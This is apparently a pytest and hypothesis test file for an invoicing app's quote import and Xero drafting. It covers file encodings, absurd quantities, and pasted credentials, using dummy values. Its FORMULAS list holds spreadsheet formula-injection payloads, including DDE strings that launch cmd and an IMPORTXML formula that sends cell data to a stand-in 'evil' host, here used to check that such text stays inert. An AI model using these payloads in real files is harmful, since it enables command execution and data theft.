"""Broken or hostile input the existing fuzzing (tests/unit/test_sources_fuzz.py) does not reach:
wrong encodings, formula injection end to end, negative quantities by row, and pasted credentials."""

from __future__ import annotations

import csv
import io
import json

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from app.credentials import check_credentials
from app.invoicing.ledger import Ledger
from app.invoicing.sources import load_file, load_text
from app.secrets import SecretStore
from tests.helpers.drafting import connect, run
from tests.helpers.loading import check

FUZZ = settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
HEADER = ["Quote Number", "Customer", "Description", "Quantity", "Unit Price"]
FORMULAS = [
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)",
    "-2+3+cmd|' /C notepad'!A1",
    '@HYPERLINK("http://x")',
    "=1+2",
    "\t=1+2",
    '=IMPORTXML(CONCAT("http://evil/?",A1),"//a")',
]
CLIENT_ID = "0123456789ABCDEF0123456789ABCDEF"
SECRET = "aB3_dE6-gH9iJ2kL5mN8oP1qR4sT7uV0wX3yZ6aB9cD2eF5g"


def as_csv(rows: list[list[str]]) -> str:
    out = io.StringIO()
    csv.writer(out).writerows([HEADER, *rows])
    return out.getvalue()


def sentences(result) -> list[str]:
    return [p.reason for p in result.problems]


@FUZZ
@given(
    st.text(alphabet=st.characters(blacklist_categories=("Cs", "Cc")), min_size=1, max_size=40),
    st.sampled_from(
        [
            "utf-8",
            "utf-8-sig",
            "utf-16",
            "utf-16-le",
            "utf-16-be",
            "cp1252",
            "latin-1",
            "shift_jis",
            "utf-32",
            "koi8-r",
            "mac-roman",
        ]
    ),
)
def test_any_encoding_loads_or_says_why_per_file(customer: str, encoding: str) -> None:
    text = as_csv([["Q-1", customer, "Work", "1", "10"]])
    try:
        data = text.encode(encoding)
    except UnicodeEncodeError:
        data = text.encode(encoding, errors="replace")
    for name in ("quotes.csv", "quotes.json", "quotes"):
        result = load_text(data, name)
        check(result)
        assert result.quotes or result.problems


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "cp1252"])
def test_common_encodings_keep_the_customer_name(tmp_path, encoding: str) -> None:
    path = tmp_path / "quotes.csv"
    path.write_bytes(as_csv([["Q-1", "Café Zoë £", "Work", "1", "10"]]).encode(encoding))
    result = load_file(path)
    assert [q.contact_name for q in result.quotes] == ["Café Zoë £"], sentences(result)


@pytest.mark.parametrize("formula", FORMULAS)
def test_formula_text_stays_text_in_csv_and_json(formula: str) -> None:
    for result in (
        load_text(as_csv([["Q-1", "Acme", formula, "1", "10"]]), "q.csv"),
        load_text(
            json.dumps(
                {
                    "quotes": [
                        {
                            "number": "Q-1",
                            "contact_name": "Acme",
                            "lines": [{"description": formula, "quantity": 1, "unit_price": 10}],
                        }
                    ]
                }
            ),
            "q.json",
        ),
    ):
        check(result)
        [quote] = result.quotes
        # Control characters are stripped from CRM text (a tab becomes a space); the rest stays as written.
        assert quote.lines[0].description == formula.replace("\t", " ").strip(" ")


@FUZZ
@given(
    st.sampled_from(
        [
            "-1",
            "-0.5",
            "0",
            "-1e6",
            "-99999999999",
            "1000001",
            "1e400",
            "-inf",
            "nan",
            "=1+2",
            "1/2",
            "½",
            "--1",
            "1,000,000,000",
            "0x10",
        ]
    ),
    st.sampled_from(["csv", "json"]),
)
def test_negative_or_absurd_quantities_are_a_row_sentence(quantity: str, kind: str) -> None:
    if kind == "csv":
        rows = [["Q-1", "Acme", "Work", quantity, "10"], ["Q-2", "Acme", "Fine", "2", "5"]]
        result = load_text(as_csv(rows), "q.csv")
    else:
        lines = [{"description": "Work", "quantity": quantity, "unit_price": 10}]
        good = [{"description": "Fine", "quantity": 2, "unit_price": 5}]
        document = {
            "quotes": [
                {"number": "Q-1", "contact_name": "Acme", "lines": lines},
                {"number": "Q-2", "contact_name": "Acme", "lines": good},
            ]
        }
        result = load_text(json.dumps(document), "q.json")
    check(result)
    assert [q.number for q in result.quotes] == ["Q-2"]  # the good quote is not held back
    assert result.problems and all("Q-1" in p.reason or p.line for p in result.problems), sentences(result)
    assert any("quantity" in p.reason for p in result.problems), sentences(result)


@pytest.mark.usefixtures("real_keyring")
def test_a_formula_description_reaches_xero_verbatim_and_is_never_evaluated(
    sandbox, sandbox_app, callback_ports
):
    model = connect(sandbox, sandbox_app, callback_ports)
    try:
        rows = [[f"FX-{n}", "Acme Ltd", formula, "1", "10"] for n, formula in enumerate(FORMULAS)]
        loaded = load_text(as_csv(rows), "formulas.csv")
        with Ledger() as ledger:
            report = run(model, ledger, loaded.quotes)
        assert report.drafted == len(FORMULAS), report.summary()
        held = {
            i["Reference"]: i["LineItems"][0]["Description"]
            for i in sandbox.state.orgs[model.settings.tenant_id]["invoices"]
            if str(i.get("Reference", "")).startswith("FX-")
        }
        # As written, but for the control characters stripped when loading (a tab becomes a space).
        expected = {f"FX-{n}": formula.replace("\t", " ").strip(" ") for n, formula in enumerate(FORMULAS)}
        assert held == expected
    finally:
        SecretStore("sandbox", sandbox_app.client_id).delete_all()


# -- pasted client ID and secret ------------------------------------------------------------------------

junk = st.sampled_from(["", " ", "\n", "\r\n", "\t", "\u200b", "\u200c", "\u200d", "\ufeff", "\u00a0"])


@FUZZ
@given(st.lists(junk, max_size=4), st.lists(junk, max_size=4), st.lists(junk, max_size=4), st.booleans())
def test_pasted_values_with_newlines_and_invisible_characters_are_accepted(before, inside, after, lower):
    def dirty(value: str) -> str:
        middle = len(value) // 2
        return "".join(before) + value[:middle] + "".join(inside) + value[middle:] + "".join(after)

    cid = CLIENT_ID.lower() if lower else CLIENT_ID
    result = check_credentials(dirty(cid), dirty(SECRET))
    assert result.ok, result.problems
    assert (result.client_id, result.client_secret) == (CLIENT_ID, SECRET)


@FUZZ
@given(st.sampled_from(['"', "'", "“", "”", "`", "<", "\u2060"]), st.booleans())
def test_quoted_values_are_refused_with_a_sentence_that_never_echoes_the_secret(quote, both):
    result = check_credentials(f"{quote}{CLIENT_ID}{quote if both else ''}", f"{quote}{SECRET}{quote}")
    assert not result.ok and result.problems
    for problem in result.problems:
        assert SECRET not in problem and problem.endswith(".")


@FUZZ
@given(st.lists(junk, max_size=3))
def test_swapped_values_are_detected_however_they_were_pasted(noise):
    result = check_credentials("".join(noise) + SECRET, CLIENT_ID + "".join(noise))
    assert result.swapped and not result.ok and "swapped" in result.problems[0]


@FUZZ
@given(st.text(max_size=80), st.text(max_size=80), st.booleans())
def test_any_pasted_text_gives_a_verdict_and_never_raises(client_id, secret, needs_secret):
    result = check_credentials(client_id, secret, needs_secret=needs_secret)
    assert result.ok or result.problems
    if not result.ok:
        assert all(p.endswith(".") for p in result.problems), result.problems
        if len(secret.strip()) >= 8:  # shorter strings occur in any sentence by chance
            assert not any(secret.strip() in p for p in result.problems)
